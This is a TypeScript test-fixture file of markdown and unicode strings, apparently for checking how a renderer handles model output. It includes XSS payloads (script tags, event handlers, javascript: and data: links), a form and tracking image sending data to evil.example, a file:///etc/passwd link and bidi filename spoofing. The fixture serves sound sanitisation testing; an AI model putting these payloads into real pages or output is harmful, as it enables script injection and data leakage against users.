/** Every markdown construct, and what a hostile model might send. */
export const markdownShowcase = `# Heading 1
## Heading 2
### Heading 3
#### Heading 4
##### Heading 5
###### Heading 6

Setext heading
==============

A paragraph with **bold**, *italic*, ***both***, ~~struck~~, \`code\`, \`\` \`ticks\` \`\`, a hard  
break, a [link](https://example.com "title"), an autolink <https://example.com/auto>, a bare
https://example.com/bare, a [reference][ref] and an escaped \\*star\\* &amp; &copy; &#x1F600;.

[ref]: https://example.com/reference

- bullet
  - nested
    - deeper
* other bullet
+ third bullet

3. three
4. four
   1. nested number

- [ ] open task
- [x] done task

> quote
>> nested quote
> - list in a quote

| left | centre | right |
| :--- | :---: | ---: |
| a | **b** | \`c\` |
| pipe \\| | | 3 |

\`\`\`ts
const answer: number = 6 * 7; // <b>not html</b>
\`\`\`

~~~python
def greet(name):
    return f"Hi {name}"
~~~

\`\`\`
no language
\`\`\`

\`\`\`diff
- old
+ new
\`\`\`

    indented code

---
***

Term with a footnote[^1] and math $e = mc^2$.

[^1]: The footnote.

<script>window.hacked = true</script>
<img src="x" onerror="window.hacked = true">
<iframe src="https://evil.example/frame"></iframe>
<svg onload="window.hacked = true"></svg>
<style>body { display: none }</style>
<a href="javascript:window.hacked=true" onclick="window.hacked=true">raw link</a>
<form action="https://evil.example"><input name="key"></form>
<details open ontoggle="window.hacked = true"><summary>more</summary>hidden</details>

[script link](javascript:window.hacked=true) [data link](data:text/html,<script>window.hacked=true</script>)
[command link](command:workbench.action.terminal.new) [vscode link](vscode://evil.example/x)
[file link](file:///etc/passwd) [spoof](https://example.com@evil.example/)
![remote image](https://evil.example/pixel.png?leak=secret)
![data image](data:image/svg+xml,<svg onload="window.hacked=true"/>)
<!-- a comment --> <!DOCTYPE html> </div></body></html>

Done.
`;

/** Scripts, emoji made of many code points, direction marks, and characters that break careless code. */
export const unicodeShowcase = `Emoji: 😀 👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇯🇵 1️⃣
Right to left: שלום עולם — مرحبا بالعالم — mixed אבג 123 abc
Combining: é ñ̃ Z̸̢̛ạ̷l̴g̵o̶
Wide: 漢字かな交じり文 한국어 全角
Indic: हिन्दी தமிழ் ไทย
Math: 𝒜 ∑ ∞ ≠ ½ √2
Spaces: [ ] [ ] [​] [　] [﻿]
Separators: [\u2028] [\u2029] [\u0085] [\u0000] [\u001b[31mred]
Bidi tricks: \u202Etxt.exe\u202C \u2066isolated\u2069
Astral: 𠜎 𐍈 🜁 and a last plain line.
`;

/** One code block of \`lineCount\` lines. */
export function codeBlock(lineCount: number): string {
  const lines = Array.from(
    { length: lineCount },
    (_, index) => `export const value${index} = compute(${index}, 'line ${index}'); // ${index % 7}`,
  );
  return `\`\`\`ts\n${lines.join('\n')}\n\`\`\`\n`;
}
